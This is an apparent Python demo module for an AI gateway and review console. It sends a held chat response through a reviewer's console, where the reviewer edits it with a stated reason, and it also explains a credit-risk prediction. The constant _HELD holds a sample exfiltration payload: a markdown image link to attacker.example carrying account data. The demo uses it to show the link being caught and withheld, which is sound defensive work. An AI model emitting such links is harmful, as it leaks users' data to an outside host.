"""The demo's console step: the gateway and the console on 127.0.0.1 for a few seconds.

A client's response is held for review; a reviewer signs in to the console with an API key,
approves it there with a reason, and the waiting client receives it; an owner's key reads the
overview; the reviewer explains one prediction of the credit-risk model. Everything goes over
loopback HTTP, as a person's browser would, and ends in the demo's ledger.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import httpx

from sai.catalog import load_catalog
from sai.gateway.config import config_for, config_from_manifest
from sai.gateway.keys import create_key
from sai.gateway.mock_upstream import MockUpstream
from sai.gateway.server import create_app, serve_in_thread
from sai.ledger import Ledger
from sai.manifest import LoadedManifest
from sai.manifest.schema import GuardsSpec
from sai.web import ConsoleSettings, create_console
from sai.web.gate import scanned_model

_HELD = "Summarise: ![chart](https://attacker.example/collect?data=account-12345)"
#: The held response needs only the output guards; the input ones stay light for speed.
_GUARDS = GuardsSpec(input=["invisible", "secrets"])
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


@dataclass(frozen=True)
class ConsoleDemo:
    """Where the console ran, the review it decided and what the waiting client got."""

    url: str
    review_id: str
    client_status: int
    explained: str | None


def _csrf(page: str) -> str:
    found = _CSRF.search(page)
    if found is None:
        raise RuntimeError("the console page has no CSRF field")
    return found.group(1)


@contextlib.contextmanager
def _sign_in(url: str, secret: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=url, timeout=20) as http:
        token = _csrf(http.get("/signin").text)
        answer = http.post("/signin", data={"api_key": secret, "csrf": token, "next": "/"})
        if answer.status_code != 303:
            raise RuntimeError(f"signing in to the console failed: HTTP {answer.status_code}")
        yield http


def run_console_demo(
    ledger: Ledger,
    loaded: LoadedManifest,
    *,
    actor: str = "sai-demo",
    on_step: Callable[[str], None] = lambda _: None,
) -> ConsoleDemo:
    """Drive one review and one explanation through the console (see the module docstring)."""
    manifest = loaded.manifest
    upstream = serve_in_thread(MockUpstream())
    config = config_for(f"{upstream.url}/v1", gateway=manifest.gateway, guards=_GUARDS)
    roles = tuple(config.roles)
    keys = {
        role: create_key(ledger, f"demo-console-{role}", role, roles=roles, actor=actor).secret
        for role in ("user", "reviewer", "owner")
    }
    gateway = serve_in_thread(create_app(config, ledger))
    console = serve_in_thread(
        create_console(
            ledger,
            manifest,
            load_catalog(),
            ConsoleSettings.from_manifest(manifest),
            predict_models=config_from_manifest(loaded).predict_models,
            model_gate=scanned_model,
        )
    )
    try:
        on_step(f"Console: serving on {console.url} for this step")
        with httpx.Client(base_url=gateway.url, timeout=20) as client:
            auth = {"authorization": f"Bearer {keys['user']}"}
            held = client.post(
                "/v1/chat/completions",
                headers=auth,
                json={
                    "model": "reviewer-assistant@1",
                    "messages": [{"role": "user", "content": _HELD}],
                },
            )
            review_id = held.headers["x-sai-review-id"]
            with _sign_in(console.url, keys["reviewer"]) as reviewer:
                token = _csrf(reviewer.get(f"/reviews/{review_id}").text)
                reviewer.post(
                    f"/reviews/{review_id}/decide",
                    data={
                        "csrf": token,
                        "action": "edit",
                        "reason": "the image link sends account data to an unknown host",
                        "content": "Summary withheld: the request carried a tracking link.",
                    },
                )
                model = next(iter(sorted(config_from_manifest(loaded).predict_models)), None)
                if model is not None:
                    reviewer.post(
                        "/explain",
                        data={"csrf": token, "model": model, "inputs": "52000, 0.42, 6, 2, 3"},
                    )
            released = client.get(f"/v1/sai/reviews/{review_id}", headers=auth)
        with _sign_in(console.url, keys["owner"]) as owner:
            owner.get("/")
        on_step(
            f"Console: a reviewer edited held response {review_id}; the waiting client got "
            f"HTTP {released.status_code}"
        )
        return ConsoleDemo(console.url, review_id, released.status_code, model)
    finally:
        console.stop()
        gateway.stop()
        upstream.stop()


__all__ = ["ConsoleDemo", "run_console_demo"]
